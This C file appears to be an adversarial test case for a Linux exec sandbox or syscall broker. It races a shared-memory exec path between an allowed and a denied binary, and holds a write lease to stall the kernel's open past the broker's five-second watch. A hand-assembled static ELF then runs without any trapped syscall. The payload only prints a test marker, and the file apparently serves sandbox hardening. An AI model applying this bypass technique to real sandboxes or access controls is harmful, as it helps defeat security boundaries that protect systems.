// technique: stall the kernel's exec past the exec watch (5 s) with a write lease on the file it will open, after the path race of 174; the denied static image then runs with no trapped syscall and nothing checks it
// build: static
// timeout: 120
//
// A write lease (fcntl F_SETLEASE F_WRLCK, allowed on a file one owns) makes
// any other open of the file wait until the holder releases it (up to
// /proc/sys/fs/lease-break-time, 45 s), and tells the holder (F_GETLEASE
// changes) that an open is under way. A thread toggles the exec path in a
// MAP_SHARED page between okay and sudo (the race of 174); the lease is on
// .adv/sudo: when the kernel resolved sudo after the broker decided okay,
// the kernel's open in the exec breaks it; the holder keeps it 5.5 s, past
// execWatchFor, while the image is still the old one (the watch sees
// nothing to check), then releases it.
// The denied image (.adv/sudo, written by tiny_elf) is static, has no libc
// and makes no trapped syscall: it spins, then prints the marker
// (judge_exec_linux.go).
#include "exec_race.h"
#include <sys/mman.h>
#include <sys/auxv.h>

static char *shared;

static void quiet_role(int argc, char **argv) {
	// AT_EXECFN, not readlink (trapped): the file name the kernel executed
	const char *self = (const char *)getauxval(AT_EXECFN);
	if (!self || argc < 2 || strcmp(argv[1], "quiet")) return;
	(void)self;
	_exit(0); // okay: the allowed image (the denied one is tiny_elf's)
}

// tiny_elf writes exec_dir/sudo as a minimal static x86-64 image that makes
// no syscall for a while (a counted loop), then writes the marker and
// exits 42: no libc, so not even the start-up readlink of /proc/self/exe
// that static glibc makes (a trapped syscall).
static const char tiny_msg[] = EXEC_MARKER ": a denied image ran after a lease-stalled exec, unchecked\n";
static void tiny_elf(void) {
	unsigned char b[512] = {0x7f, 'E', 'L', 'F', 2, 1, 1};
	unsigned long base = 0x400000, code = 120;
	unsigned char prog[] = {
		0xb9, 0x00, 0x00, 0x00, 0x40,       // mov ecx, 0x40000000
		0x48, 0xff, 0xc9, 0x75, 0xfb,       // 1: dec rcx; jnz 1b
		0xb8, 1, 0, 0, 0, 0xbf, 1, 0, 0, 0, // mov eax, 1 (write); mov edi, 1
		0x48, 0x8d, 0x35, 19, 0, 0, 0,      // lea rsi, [rip+19] (the message)
		0xba, sizeof tiny_msg - 1, 0, 0, 0, // mov edx, len
		0x0f, 0x05,                         // syscall
		0xb8, 231, 0, 0, 0, 0xbf, 42, 0, 0, 0, // mov eax, 231 (exit_group); mov edi, 42
		0x0f, 0x05,                         // syscall
	};
	size_t total = code + sizeof prog + sizeof tiny_msg - 1;
	unsigned short h16[] = {2, 62}; // ET_EXEC, EM_X86_64
	memcpy(b + 16, h16, 4);
	unsigned int one = 1;
	memcpy(b + 20, &one, 4);
	unsigned long entry = base + code, phoff = 64;
	memcpy(b + 24, &entry, 8);
	memcpy(b + 32, &phoff, 8);
	unsigned short sizes[] = {64, 56, 1}; // e_ehsize, e_phentsize, e_phnum
	memcpy(b + 52, sizes, 6);
	unsigned int ph[2] = {1, 5}; // PT_LOAD, R+X
	memcpy(b + 64, ph, 8);
	unsigned long pv[6] = {0, base, base, total, total, 0x1000};
	memcpy(b + 72, pv, 48);
	memcpy(b + code, prog, sizeof prog);
	memcpy(b + code + sizeof prog, tiny_msg, sizeof tiny_msg - 1);
	char p[1200];
	snprintf(p, sizeof p, "%s/sudo", exec_dir);
	unlink(p);
	int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || write(fd, b, total) != (ssize_t)total) { printf("write %s: %s\n", p, strerror(errno)); exit(2); }
	close(fd);
}

static int lease(const char *name) {
	char p[1200];
	snprintf(p, sizeof p, "%s/%s", exec_dir, name);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0) { printf("open %s: %s\n", p, strerror(errno)); return -1; }
	if (fcntl(fd, F_SETLEASE, F_WRLCK) < 0) { printf("lease %s: %s\n", name, strerror(errno)); close(fd); return -1; }
	return fd;
}

static double now(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void noop(int s) { (void)s; }

static volatile int stop;
static void *flip(void *a) {
	char *p = shared + strlen(exec_dir) + 1;
	while (!stop) { memcpy(p, "sudo", 4); exec_spin(300); memcpy(p, "okay", 4); exec_spin(300); }
	return a;
}

int main(int argc, char **argv) {
	quiet_role(argc, argv);
	exec_role(argc, argv);
	signal(SIGIO, noop); // the lease-break signal
	exec_setup();
	tiny_elf();
	shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	snprintf(shared, 1200, "%s/okay", exec_dir);
	int sfd = lease("sudo");
	if (sfd < 0) return 0;
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	double end = now() + 40;
	for (int i = 0; i < 5000 && !exec_won && now() < end; i++) {
		pid_t p = fork();
		if (p == 0) {
			char *av[] = {"okay", "quiet", 0};
			execve(shared, av, (char *[]){0});
			_exit(errno == EACCES ? 13 : 14);
		}
		int st = 0;
		for (;;) {
			if (waitpid(p, &st, WNOHANG) == p) break;
			if (fcntl(sfd, F_GETLEASE) != F_WRLCK) {
				// the kernel resolved "sudo" after the broker decided "okay"
				printf("attempt %d: the kernel's open of sudo waits on the lease; holding it 5.5 s\n", i);
				fflush(stdout);
				usleep(5500000);
				fcntl(sfd, F_SETLEASE, F_UNLCK);
				close(sfd);
				waitpid(p, &st, 0);
				sfd = lease("sudo");
				break;
			}
		}
		exec_status(st);
		if (sfd < 0) break;
	}
	stop = 1;
	printf("exec attempts: %d refused, %d allowed image ran, %d denied image ran, %d killed, %d other\n",
	       exec_refused, exec_allowed, exec_won, exec_killed, exec_other);
	return 0;
}
